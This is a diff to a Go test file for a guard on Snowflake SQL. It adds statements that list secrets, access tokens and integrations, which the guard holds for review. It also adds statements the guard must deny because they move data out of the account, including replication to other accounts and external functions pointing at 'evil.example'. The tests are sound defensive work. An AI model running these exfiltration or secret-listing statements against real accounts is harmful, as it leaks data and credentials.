@@ -163,7 +163,18 @@ func TestChangesAreHeld(t *testing.T) {
 	s.hold("EXECUTE TASK t", "scripts")
 	s.hold("SELECT AI_COMPLETE('m', city) FROM customers", "ai-functions")
 	s.hold("SHOW USERS", "people-metadata")
-	s.hold("SHOW GRANTS TO USER me", "people-metadata")
+	for _, text := range []string{
+		"SHOW GRANTS TO USER me", "SHOW FUTURE GRANTS IN SCHEMA public", "DESC USER bob", "DESCRIBE SHARE s", "SHOW SHARES",
+		"DESC INTEGRATION i", "DESC SECURITY INTEGRATION i", "DESC NOTIFICATION INTEGRATION i", "DESCRIBE API INTEGRATION i",
+		"DESC STORAGE INTEGRATION i", "DESC EXTERNAL ACCESS INTEGRATION i", "SHOW INTEGRATIONS", "SHOW SECURITY INTEGRATIONS",
+		"SHOW API INTEGRATIONS", "SHOW NOTIFICATION INTEGRATIONS", "SHOW STORAGE INTEGRATIONS", "SHOW MANAGED ACCOUNTS",
+		"SHOW NETWORK POLICIES", "SHOW NETWORK RULES", "SHOW SECRETS", "SHOW USER PROGRAMMATIC ACCESS TOKENS", "SHOW LISTINGS",
+		"SHOW DELEGATED AUTHORIZATIONS",
+	} {
+		s.hold(text, "people-metadata")
+	}
+	s.hold("SHOW PARAMETERS FOR USER bob", "user-metadata")
+	s.hold("SHOW PARAMETERS LIKE 'x' IN USER bob", "user-metadata")
 }
 
 func TestDestructionTakesTwo(t *testing.T) {
@@ -194,6 +205,14 @@ func TestWaysOutAreDenied(t *testing.T) {
 	s.deny("CREATE STAGE st URL = 's3://elsewhere/'", "leaves-the-account")
 	s.deny("ALTER SHARE sh ADD ACCOUNTS = other", "shares")
 	s.deny("GRANT SELECT ON TABLE orders TO SHARE sh", "shares")
+	s.deny("CREATE REPLICATION GROUP g OBJECT_TYPES = DATABASES ALLOWED_DATABASES = app ALLOWED_ACCOUNTS = o.other", "shares")
+	s.deny("ALTER DATABASE app ENABLE REPLICATION TO ACCOUNTS o.other", "shares")
+	s.deny("ALTER DATABASE IF EXISTS app ENABLE FAILOVER TO ACCOUNTS o.other, o.third IGNORE EDITION CHECK", "shares")
+	s.deny("CREATE APPLICATION PACKAGE p", "shares")
+	s.deny("ALTER APPLICATION PACKAGE p ADD VERSION v USING '@st/x'", "shares")
+	s.deny("CREATE LISTING l AS 'x'", "shares")
+	s.deny("CREATE EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARIANT API_INTEGRATION = i AS 'https://evil.example/'", "leaves-the-account")
+	s.deny("CREATE OR REPLACE SECURE EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARIANT API_INTEGRATION = i AS $$https://evil.example/$$", "leaves-the-account")
 	s.deny("SELECT GET_PRESIGNED_URL(@s, 'x')", "egress-functions")
 	s.deny("SELECT SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')", "egress-functions")
 	s.deny("CALL SYSTEM$SEND_EMAIL('i', 'x@evil.com', 's', 'b')", "egress-functions")
